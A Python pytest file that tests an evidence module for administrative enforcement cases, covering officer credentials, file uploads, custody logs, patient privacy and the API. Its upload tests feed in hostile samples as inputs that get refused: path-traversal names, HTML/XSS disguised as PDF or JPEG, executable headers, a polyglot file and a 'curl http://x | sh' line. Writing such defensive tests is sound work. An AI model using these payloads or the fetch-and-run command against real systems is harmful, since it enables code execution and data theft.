"""Evidence (issue 5, first capability): registering items collected by two credentialed officers,
uploads streamed into content-addressed storage after content sniffing (every attack refused with nothing
stored), duplicates found by hash, crash safety, the append-only custody log with the 先行登记保存 deadline,
patient-level privacy, the archived case, and the web pages and API."""
import io
import os
import re
from datetime import date, datetime

import pytest
from sqlalchemy import func, select, text, update

from caseflow.audit.models import AuditEvent
from caseflow.cases.models import Case
from caseflow.deadlines import services as deadlines
from caseflow.errors import Conflict, Forbidden, NotFound, ValidationFailed
from caseflow.evidence import queries
from caseflow.evidence import services as evidence
from caseflow.evidence.models import CustodyEvent, Evidence, EvidenceAttachment, EvidenceCollector
from caseflow.evidence.sniffing import TAIL_BYTES
from caseflow.extensions import db
from caseflow.storage import get_store
from tests.conftest import login
from tests.integration.procedure_helpers import act, filed_case, make_user, refuse_service
from tests.integration.test_api_support import Api, assert_error

PHARMACY = "福州仁和大药房有限公司"
COLLECTED = datetime(2025, 2, 13, 10, 0)
PDF = b"%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n" + b"0 0 obj\n" * 400 + b"%%EOF\n"


def form(people, **changes) -> dict:
    data = {"evidence_type": "documentary", "title": "2025年1月医保结算明细", "obtained_by": "retrieval",
            "source": "福州市医保信息系统调取", "collected_at": COLLECTED.isoformat(timespec="minutes"),
            "collected_place": "福州市医疗保障局", "collected_by": [people["officer"].id, people["officer2"].id],
            "violations": ["735-38", "将日用品串换为目录内药品结算"], "description": "结算明细 312 条。"}
    data.update(changes)
    return data


@pytest.fixture
def case(people, parties):
    """A case filed 2025-02-12, handled by officer and officer2."""
    return filed_case(people, parties[PHARMACY])


@pytest.fixture
def item(case, people):
    return evidence.register_evidence(case.id, form(people), people["officer"])


def stored_files(app) -> list[str]:
    """Every file under the storage directory, temporary ones included."""
    found = []
    for root, _dirs, files in os.walk(app.config["STORAGE_DIR"]):
        found += [os.path.join(root, f) for f in files]
    return found


def count(model) -> int:
    return db.session.execute(select(func.count()).select_from(model)).scalar_one()


def audit_codes(case_id) -> list[str]:
    return list(db.session.execute(select(AuditEvent.code).where(AuditEvent.case_id == case_id)
                                   .order_by(AuditEvent.seq)).scalars())


def upload(item, people, data: bytes, name="结算明细.pdf", user="officer"):
    return evidence.add_attachment(item.id, io.BytesIO(data), name, people[user])


# ---- registering

def test_register_evidence_collected_by_two_credentialed_officers(app, people, case, item):
    assert item.seq == 1 and item.type_label == "书证" and item.obtained_label == "调取"
    assert [(c.user.username, c.credential_no) for c in item.collectors] == [
        ("officer", "35010020230001"), ("officer2", "35010020230002")]
    assert item.violations == ["735-38", "将日用品串换为目录内药品结算"]
    assert [(e.kind, e.occurred_at) for e in item.custody] == [("collected", COLLECTED)]
    assert "林志远、陈晓梅" in item.custody[0].reason
    assert audit_codes(case.id)[-1] == "EVIDENCE_REGISTERED"
    second = evidence.register_evidence(case.id, form(people, title="现场照片", evidence_type="audiovisual",
                                                      obtained_by="onsite_inspection"), people["head"])
    assert second.seq == 2


def test_two_credentialed_officers_of_the_organisation_must_collect(app, people, case):
    officer = people["officer"]
    expired = make_user(people, "expired", "过期", ["officer"], credential="35010020239999",
                        valid_until=date(2025, 1, 31))
    cases_ = [
        ([officer.id], "至少两名"),
        ([officer.id, officer.id], "至少两名"),
        ([officer.id, people["reviewer"].id], "不是在岗执法人员"),
        ([officer.id, expired.id], "执法证在 2025-02-13 无效"),
        ([officer.id, people["gl_officer"].id], "不是本单位人员"),
        ([officer.id, 999999], "不是本单位人员"),
    ]
    for ids, fragment in cases_:
        error = refuse_service(lambda: evidence.register_evidence(case.id, form(people, collected_by=ids), officer),
                               case.id, ValidationFailed, "收集人员", fragment)
        assert "collected_by" in error.details
    # the same officer was qualified on an earlier day: the credential is checked on the collection date
    ok = evidence.register_evidence(case.id, form(people, collected_by=[officer.id, expired.id],
                                                  collected_at="2025-01-20T09:00"), officer)
    assert ok.collectors[1].credential_no == "35010020239999"


def test_registration_is_validated_and_limited_to_the_case_team(app, people, case):
    refuse_service(lambda: evidence.register_evidence(case.id, form(people, evidence_type="rumour"), people["officer"]),
                   case.id, ValidationFailed, "证据种类")
    refuse_service(lambda: evidence.register_evidence(case.id, form(people, collected_at="2999-01-01T00:00"),
                                                      people["officer"]), case.id, ValidationFailed, "不能晚于现在")
    for username, error in (("officer3", Forbidden), ("reviewer", Forbidden), ("archivist", NotFound),
                            ("gl_officer", NotFound)):  # not on the case, not an investigator, not theirs
        refuse_service(lambda: evidence.register_evidence(case.id, form(people), people[username]), case.id, error)
    assert count(Evidence) == 0


# ---- uploads

def test_an_upload_is_stored_by_hash_and_duplicates_are_reported(app, people, case, item):
    result = upload(item, people, PDF)
    a = result.attachment
    assert (a.detected_type, a.size, a.original_name) == ("pdf", len(PDF), "结算明细.pdf")
    assert get_store().exists(a.sha256) and get_store().get_bytes(a.sha256) == PDF
    assert result.notices == [] and audit_codes(case.id)[-1] == "EVIDENCE_ATTACHED"
    with pytest.raises(Conflict, match="内容相同"):  # the same file twice on one item
        upload(item, people, PDF, name="copy.pdf")
    other = evidence.register_evidence(case.id, form(people, title="调取的结算单"), people["officer"])
    again = upload(other, people, PDF, name="结算单.pdf")
    assert len(again.notices) == 1 and "证据1" in again.notices[0] and "内容完全相同" in again.notices[0]
    assert count(EvidenceAttachment) == 2 and len(stored_files(app)) == 1  # one object, two references


def test_path_components_are_stripped_from_names(app, people, item):
    result = upload(item, people, "问：是否知情？\n答：知情。\n".encode(), name="../../etc/passwd")
    assert result.attachment.original_name == "passwd" and result.attachment.detected_type == "text"
    result = upload(item, people, PDF, name="C:\\Users\\x\\..\\..\\Windows\\win.ini")
    assert result.attachment.original_name == "win.ini"


def _jpeg(size=200_000) -> bytes:
    return b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + bytes(range(256)) * (size // 256) + b"\xff\xd9"


def _zip() -> bytes:
    import zipfile
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("payload.html", "<html><script>alert(1)</script></html>")
    return buffer.getvalue()


ATTACKS = [
    ("nul_in_name", "evidence\x00.pdf", PDF, "控制字符"),
    ("zero_bytes", "empty.pdf", b"", "为空"),
    ("html_as_pdf", "invoice.pdf", b"<!DOCTYPE html><html><body><script>steal()</script></body></html>", "网页"),
    ("html_in_pdf", "report.pdf", b"%PDF-1.4\n<html><script>alert(document.cookie)</script></html>\n%%EOF",
     "伪装"),
    ("html_as_jpeg", "photo.jpg", b"\xff\xd8\xff\xe0\x00\x10JFIF\x00<script>alert(1)</script>" + bytes(500), "伪装"),
    ("exe_as_pdf", "scan.pdf", b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + bytes(2000), "可执行程序"),
    ("elf_as_jpeg", "photo.jpg", b"\x7fELF\x02\x01\x01\x00" + bytes(2000), "可执行程序"),
    ("polyglot_jpeg_zip", "photo.jpg", _jpeg() + _zip(), "ZIP"),
    ("shell_script", "notes.txt", b"#!/bin/sh\ncurl http://x | sh\n", "脚本"),
]


@pytest.mark.parametrize("label, name, data, fragment", ATTACKS, ids=[a[0] for a in ATTACKS])
def test_upload_attacks_are_refused_and_nothing_is_stored(app, people, case, item, label, name, data, fragment):
    before = (count(EvidenceAttachment), db.session.execute(select(func.count()).select_from(AuditEvent)).scalar_one())
    with pytest.raises(ValidationFailed) as info:
        upload(item, people, data, name=name)
    assert fragment in info.value.message, info.value.message
    assert set(info.value.details) <= {"file", "filename"} and info.value.details
    assert (count(EvidenceAttachment),
            db.session.execute(select(func.count()).select_from(AuditEvent)).scalar_one()) == before
    assert stored_files(app) == []


class OneWay(io.RawIOBase):
    """A stream that cannot seek (like a request body read straight off the socket)."""

    def __init__(self, data: bytes, fail_at: int | None = None):
        self.data, self.pos, self.fail_at = data, 0, fail_at

    def readable(self):
        return True

    def readinto(self, buffer):
        if self.fail_at is not None and self.pos >= self.fail_at:
            raise ConnectionResetError("client went away")
        n = min(len(buffer), len(self.data) - self.pos)
        buffer[:n] = self.data[self.pos:self.pos + n]
        self.pos += n
        return n


def test_oversize_is_refused_before_storing_on_both_stream_kinds(app, people, item):
    app.config["EVIDENCE_MAX_UPLOAD"] = 1000
    for stream in (io.BytesIO(PDF), OneWay(PDF)):
        with pytest.raises(ValidationFailed, match="超过大小上限"):
            evidence.add_attachment(item.id, stream, "big.pdf", people["officer"])
    assert count(EvidenceAttachment) == 0 and stored_files(app) == []
    app.config["EVIDENCE_MAX_UPLOAD"] = len(PDF)  # exactly at the limit is accepted
    assert evidence.add_attachment(item.id, OneWay(PDF), "ok.pdf", people["officer"]).attachment.size == len(PDF)


class DropsWhileStoring(io.BytesIO):
    """A seekable upload whose connection drops while the store reads it (past `fail_at`, before the tail
    the sniffer looked at)."""

    def __init__(self, data: bytes, fail_at: int):
        super().__init__(data)
        self.fail_at, self.size = fail_at, len(data)

    def read(self, size=-1):
        if self.fail_at <= self.tell() < self.size - TAIL_BYTES:
            raise ConnectionResetError("client went away")
        return super().read(size)


def test_an_upload_interrupted_midway_leaves_no_partial_file_and_no_row(app, people, case, item):
    big = b"%PDF-1.7\n" + b"1 0 obj << /Length 0 >> stream\nendstream endobj\n" * 90_000 + b"%%EOF\n"
    assert len(big) > 4 * 1024 * 1024
    audit_before = len(audit_codes(case.id))
    with pytest.raises(ConnectionResetError):
        evidence.add_attachment(item.id, DropsWhileStoring(big, 2 * 1024 * 1024), "scan.pdf", people["officer"])
    with pytest.raises(ConnectionResetError):
        evidence.add_attachment(item.id, OneWay(big, fail_at=1024 * 1024), "scan.pdf", people["officer"])
    assert stored_files(app) == [] and count(EvidenceAttachment) == 0
    assert len(audit_codes(case.id)) == audit_before
    # the same file sent again in full is stored whole
    done = evidence.add_attachment(item.id, io.BytesIO(big), "scan.pdf", people["officer"]).attachment
    assert done.size == len(big) and len(stored_files(app)) == 1


# ---- custody

def test_custody_log_is_append_only_and_preservation_starts_its_deadline(app, people, case, item):
    officer = people["officer"]
    with pytest.raises(ValidationFailed, match="须写明对象"):
        evidence.record_custody(item.id, {"kind": "transferred", "occurred_at": "2025-02-13T15:00",
                                          "reason": "移交证据保管室"}, officer)
    with pytest.raises(ValidationFailed, match="不能早于证据收集时间"):
        evidence.record_custody(item.id, {"kind": "received", "occurred_at": "2025-02-12T15:00",
                                          "reason": "接收"}, officer)
    with pytest.raises(ValidationFailed, match="收集记录"):
        evidence.record_custody(item.id, {"kind": "collected", "occurred_at": "2025-02-13T15:00",
                                          "reason": "再收集"}, officer)
    moved = evidence.record_custody(item.id, {"kind": "transferred", "occurred_at": "2025-02-13T15:00",
                                              "counterparty": "证据保管室 陈晓梅", "reason": "入库保管"}, officer)
    assert moved.event.kind_label == "移交" and audit_codes(case.id)[-1] == "CUSTODY_RECORDED"
    kept = evidence.record_custody(item.id, {"kind": "preserved", "occurred_at": "2025-02-14T09:00",
                                             "place": "当事人药房仓库", "counterparty": "当事人 陈国强",
                                             "reason": "证据可能灭失，先行登记保存"}, officer)
    t4 = deadlines.current(case, "T4")
    assert kept.event.deadline_id == t4.id and t4.start_on == date(2025, 2, 14)
    assert t4.due_on == date(2025, 2, 25)  # seven working days (行政处罚法 第五十六条、第八十五条)
    assert "2025-02-25" in kept.notices[0] and any("负责人批准" in n for n in kept.notices)
    db.session.expire_all()
    assert [e.kind for e in db.session.get(Evidence, item.id).custody] == ["collected", "transferred", "preserved"]
    # the database refuses any change to the log, the attachments and the collectors
    upload(item, people, PDF)
    for statement in (update(CustodyEvent).where(CustodyEvent.id == moved.event.id).values(reason="改写"),
                      text("DELETE FROM evidence_custody_events"),
                      update(EvidenceAttachment).values(original_name="x.pdf"),
                      text("DELETE FROM evidence_attachments"),
                      update(EvidenceCollector).values(credential_no="0"),
                      text("DELETE FROM evidence_collectors")):
        with pytest.raises(Exception, match="append-only"):
            db.session.execute(statement)
            db.session.flush()
        db.session.rollback()
    assert count(CustodyEvent) == 3 and count(EvidenceAttachment) == 1


def test_preservation_joins_the_deadline_its_approval_opened(app, people, case, item):
    case = act(case, "approve_preservation", date(2025, 2, 14), people, taken_on=date(2025, 2, 14))
    opened = deadlines.current(case, "T4")
    kept = evidence.record_custody(item.id, {"kind": "preserved", "occurred_at": "2025-02-14T10:00",
                                             "reason": "依批准先行登记保存"}, people["officer"])
    assert kept.event.deadline_id == opened.id and len(deadlines.find(case, "T4")) == 1
    assert not any("负责人批准" in n for n in kept.notices)


# ---- privacy and the archive

def test_patient_level_evidence_is_visible_only_to_the_roles_on_the_case(app, people, case, item):
    private = evidence.register_evidence(case.id, form(people, title="患者张某病历及处方", patient_level=True),
                                         people["officer"])
    upload(private, people, PDF)
    for username in ("officer", "officer2", "head", "reviewer"):
        assert queries.get_evidence(people[username], private.id) is not None, username
    for username in ("officer3", "gl_head", "fj_head", "gl_officer"):  # not on the case / another organisation
        assert queries.get_evidence(people[username], private.id) is None, username
    shown, withheld = queries.visible_evidence(people["officer3"], case)
    assert [e.id for e in shown] == [item.id] and withheld == 1
    with pytest.raises(Exception, match="不存在"):
        upload(private, people, PDF, user="officer3")
    db.session.rollback()
    evidence.record_custody(private.id, {"kind": "returned", "occurred_at": "2025-02-20T09:00",
                                         "counterparty": "患者张某", "reason": "退还张某病历原件"}, people["officer"])
    # the audit trail (shown to everyone who sees the case) names the item by its number only
    summaries = " ".join(db.session.execute(select(AuditEvent.summary).where(AuditEvent.case_id == case.id)).scalars())
    assert "证据2（涉及患者个人信息）" in summaries and "张某" not in summaries and "结算明细.pdf" not in summaries
    # downloading a patient-level file is audited
    attachment = db.session.get(Evidence, private.id).attachments[0]
    with queries.open_attachment(people["head"], attachment) as fh:
        assert fh.read() == PDF
    assert audit_codes(case.id)[-1] == "PATIENT_EVIDENCE_VIEWED"


def test_an_archived_case_refuses_every_evidence_write(app, people, case, item):
    upload(item, people, PDF)
    files = stored_files(app)
    # the archive transition itself is issue 5's later capability: set the state as it would
    db.session.execute(update(Case).where(Case.id == case.id).values(state="archived", closed_on=date(2025, 6, 30)))
    db.session.commit()
    officer = people["officer"]
    with pytest.raises(Conflict, match="已归档"):
        evidence.register_evidence(case.id, form(people), officer)
    with pytest.raises(Conflict, match="已归档"):
        upload(item, people, PDF.replace(b"Catalog", b"Catalogue"))
    with pytest.raises(Conflict, match="已归档"):
        evidence.record_custody(item.id, {"kind": "returned", "occurred_at": "2025-03-01T09:00",
                                          "counterparty": "当事人", "reason": "退还"}, officer)
    assert stored_files(app) == files and count(Evidence) == 1 and count(CustodyEvent) == 1


# ---- web pages

def test_web_register_upload_with_progress_download_and_custody(app, client, people, case):
    login(client, "officer")
    page = client.get(f"/cases/{case.id}").get_data(as_text=True)
    assert 'id="evidence"' in page and "登记证据" in page
    data = {"evidence_type": "physical", "title": "串换药品实物", "obtained_by": "onsite_inspection",
            "source": "当事人药房货架", "collected_at": "2025-02-13T10:00", "collected_place": "福州仁和大药房",
            "collected_by": [str(people["officer"].id)], "violations": ["735-38"], "violations_other": "串换\n"}
    refused = client.post(f"/cases/{case.id}/evidence", data=data)
    assert refused.status_code == 422 and "至少两名" in refused.get_data(as_text=True)
    data["collected_by"] = [str(people["officer"].id), str(people["officer2"].id)]
    response = client.post(f"/cases/{case.id}/evidence", data=data)
    assert response.status_code == 303
    item = db.session.execute(select(Evidence)).scalar_one()
    assert item.violations == ["735-38", "串换"]
    detail = client.get(response.headers["Location"]).get_data(as_text=True)
    assert "data-upload" in detail and "js/upload.js" in detail and "<progress" in detail
    assert "<script>" not in detail  # no inline script (CSP)
    url = f"/cases/{case.id}/evidence/{item.id}/attachments"
    xhr = {"X-Requested-With": "XMLHttpRequest"}
    bad = client.post(url, headers=xhr, data={"file": (io.BytesIO(b"MZ" + bytes(100)), "scan.pdf")})
    assert bad.status_code == 422 and "可执行程序" in bad.get_json()["message"]
    plain = client.post(url, data={"file": (io.BytesIO(b""), "empty.pdf")})
    assert plain.status_code == 422 and "为空" in plain.get_data(as_text=True)
    ok = client.post(url, headers=xhr, data={"file": (io.BytesIO(PDF), "../../结算单.pdf")})
    assert ok.status_code == 201 and ok.get_json()["redirect"].startswith(f"/cases/{case.id}/evidence/{item.id}")
    attachment = db.session.execute(select(EvidenceAttachment)).scalar_one()
    assert attachment.original_name == "结算单.pdf"
    download = client.get(f"{url}/{attachment.id}")
    assert download.status_code == 200 and download.data == PDF and download.mimetype == "application/pdf"
    assert "attachment" in download.headers["Content-Disposition"]
    assert download.headers["Content-Security-Policy"].startswith("sandbox")
    assert download.headers["X-Content-Type-Options"] == "nosniff"
    custody = client.post(f"/cases/{case.id}/evidence/{item.id}/custody",
                          data={"kind": "sealed", "occurred_at": "2025-02-14T09:00", "reason": "依法封存"})
    assert custody.status_code == 303
    assert "封存" in client.get(f"/cases/{case.id}/evidence/{item.id}").get_data(as_text=True)


def test_web_hides_patient_level_evidence_from_others(app, client, people, case):
    private = evidence.register_evidence(case.id, form(people, title="患者病历", patient_level=True), people["officer"])
    upload(private, people, PDF)
    login(client, "officer3")
    page = client.get(f"/cases/{case.id}").get_data(as_text=True)
    assert "患者病历" not in page and "另有 1 项涉及患者个人信息的证据" in page
    assert "evidence-register" not in page  # officer3 is not on the case: no register form
    assert client.get(f"/cases/{case.id}/evidence/{private.id}").status_code == 404
    attachment_id = db.session.execute(select(EvidenceAttachment.id)).scalar_one()
    assert client.get(f"/cases/{case.id}/evidence/{private.id}/attachments/{attachment_id}").status_code == 404


# ---- API

def test_api_register_upload_custody_and_errors(app, client, people, case):
    api = Api(client, people)
    body = api.ok(api.post("officer", f"/cases/{case.id}/evidence", form(people)), 201)
    evidence_id = body["id"]
    assert body["type_label"] == "书证" and body["custody"][0]["kind"] == "collected"
    assert_error(api.post("officer", f"/cases/{case.id}/evidence", form(people, collected_by=[people["officer"].id])),
                 422, "validation_failed")
    url = f"/evidence/{evidence_id}/attachments"
    refused = assert_error(api.post("officer", url, data={"file": (io.BytesIO(b"<html><script>x</script>"),
                                                                    "invoice.pdf")}), 422, "validation_failed")
    assert "网页" in refused["message"] and "file" in refused["details"]
    assert_error(api.post("officer", url, data={"file": (io.BytesIO(PDF), "a\x00.pdf")}), 422, "validation_failed")
    assert stored_files(app) == []
    created = api.ok(api.post("officer", url, data={"file": (io.BytesIO(PDF), "结算单.pdf")}), 201)
    assert created["detected_type"] == "pdf" and created["notices"] == []
    download = api.get("officer", f"{url}/{created['id']}")
    assert download.status_code == 200 and download.data == PDF
    custody = api.ok(api.post("officer", f"/evidence/{evidence_id}/custody",
                              {"kind": "preserved", "occurred_at": "2025-02-14T09:00+08:00", "reason": "先行登记保存"}),
                     201)
    assert custody["decision_due_on"] == "2025-02-25" and custody["notices"]
    item = api.ok(api.get("officer", f"/evidence/{evidence_id}"))
    assert [c["kind"] for c in item["custody"]] == ["collected", "preserved"] and len(item["attachments"]) == 1
    listed = api.ok(api.get("officer3", f"/cases/{case.id}/evidence"))
    assert [i["id"] for i in listed["items"]] == [evidence_id] and listed["withheld"] == 0
    assert_error(api.post("officer3", f"/evidence/{evidence_id}/custody",
                          {"kind": "sealed", "occurred_at": "2025-02-14T09:00", "reason": "x"}), 403, "forbidden")
    # a browser session may upload only with the XHR header (a cross-site form cannot send it)
    login(client, "officer")
    no_header = client.post(f"/api/v1{url}", data={"file": (io.BytesIO(PDF + b"x"), "b.pdf")})
    assert_error(no_header, 400)
    assert client.post(f"/api/v1{url}", headers={"X-Requested-With": "XMLHttpRequest"},
                       data={"file": (io.BytesIO(PDF + b"x"), "b.pdf")}).status_code == 201
    assert re.fullmatch(r"[0-9a-f]{64}", created["sha256"])
